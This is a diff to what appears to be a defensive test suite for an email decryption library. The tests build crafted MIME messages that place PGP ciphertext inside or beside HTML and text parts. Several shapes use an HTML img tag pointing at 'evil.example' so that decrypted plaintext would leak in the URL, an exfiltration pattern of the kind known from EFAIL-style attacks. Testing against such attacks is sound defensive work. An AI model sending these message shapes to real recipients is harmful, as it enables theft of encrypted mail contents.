@@ -5,7 +5,7 @@
  */
 
 import { expect, it } from 'vitest'
-import { encryptedParts, mixed, textPart } from '../unit/reading/material.ts'
+import { encryptedEntity, mixed, textPart } from '../unit/reading/material.ts'
 import {
   ATTACK,
   cast,
@@ -28,8 +28,6 @@ describeAttacks('attacks with ciphertext inside another message', () => {
       ? cast.seal(textPart(`Another ${SECRET}.`))
       : cast.seal(payload('alice', `new ${SECRET}`, `Another ${SECRET}.`), 'alice')
   const html = (text: string): string => `Content-Type: text/html\r\n\r\n${text}`
-  const sealedEntity = (armored: string): string =>
-    `Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary=e\r\n\r\n${encryptedParts(armored)}`
   const file = (armored: string, name: string): string =>
     `Content-Type: application/octet-stream; name=${name}\r\n\r\n${armored}`
 
@@ -37,9 +35,9 @@ describeAttacks('attacks with ciphertext inside another message', () => {
   const open = html('<img src="http://evil.example/')
   const close = html('">')
   const DIRECT: readonly Shape[] = [
-    ['between HTML', (stolen) => mixed([open, sealedEntity(stolen), close])],
-    ['behind HTML', (stolen) => mixed([open, sealedEntity(stolen)])],
-    ['before HTML', (stolen) => mixed([sealedEntity(stolen), close])],
+    ['between HTML', (stolen) => mixed([open, encryptedEntity(stolen), close])],
+    ['behind HTML', (stolen) => mixed([open, encryptedEntity(stolen)])],
+    ['before HTML', (stolen) => mixed([encryptedEntity(stolen), close])],
     ['a file between HTML', (stolen) => mixed([open, file(stolen, 'a.asc'), close])],
     ['text between HTML', (stolen) => mixed([open, textPart(stolen), close])],
     ['inside of HTML', (stolen) => html(`<img src="http://evil.example/${stolen}">`)]
@@ -47,26 +45,26 @@ describeAttacks('attacks with ciphertext inside another message', () => {
   const CLOSED: readonly Shape[] = [
     [
       'behind two texts',
-      (stolen) => mixed([textPart(`${ATTACK} one`), textPart('two'), sealedEntity(stolen)])
+      (stolen) => mixed([textPart(`${ATTACK} one`), textPart('two'), encryptedEntity(stolen)])
     ],
     ['behind words of one text', (stolen) => textPart(`${ATTACK}\r\n${stolen}`)],
     [
       'in a forwarded mail',
       (stolen) =>
-        mixed([textPart(ATTACK), `Content-Type: message/rfc822\r\n\r\n${sealedEntity(stolen)}`])
+        mixed([textPart(ATTACK), `Content-Type: message/rfc822\r\n\r\n${encryptedEntity(stolen)}`])
     ]
   ]
   /** Real programs make these of a whole message, so they are opened, but the words beside it never count as part of it. */
   const APART: readonly Shape[] = [
-    ['behind one text', (stolen) => mixed([textPart(`${ATTACK} reads:`), sealedEntity(stolen)])],
-    ['before one text', (stolen) => mixed([sealedEntity(stolen), textPart(`${ATTACK} footer`)])],
+    ['behind one text', (stolen) => mixed([textPart(`${ATTACK} reads:`), encryptedEntity(stolen)])],
+    ['before one text', (stolen) => mixed([encryptedEntity(stolen), textPart(`${ATTACK} footer`)])],
     ['before words of one text', (stolen) => textPart(`${stolen}\r\n${ATTACK}`)],
     ['a file beside a text', (stolen) => mixed([textPart(ATTACK), file(stolen, 'a.txt.asc')])]
   ]
   const AGAIN: readonly Shape[] = [
-    ['as a layer', sealedEntity],
-    ['as a layer beside a text', (stolen) => mixed([textPart(ATTACK), sealedEntity(stolen)])],
-    ['as a layer between HTML', (stolen) => mixed([open, sealedEntity(stolen), close])],
+    ['as a layer', encryptedEntity],
+    ['as a layer beside a text', (stolen) => mixed([textPart(ATTACK), encryptedEntity(stolen)])],
+    ['as a layer between HTML', (stolen) => mixed([open, encryptedEntity(stolen), close])],
     ['as text', textPart],
     ['as a file', (stolen) => mixed([textPart(ATTACK), file(stolen, 'a.asc')])]
   ]
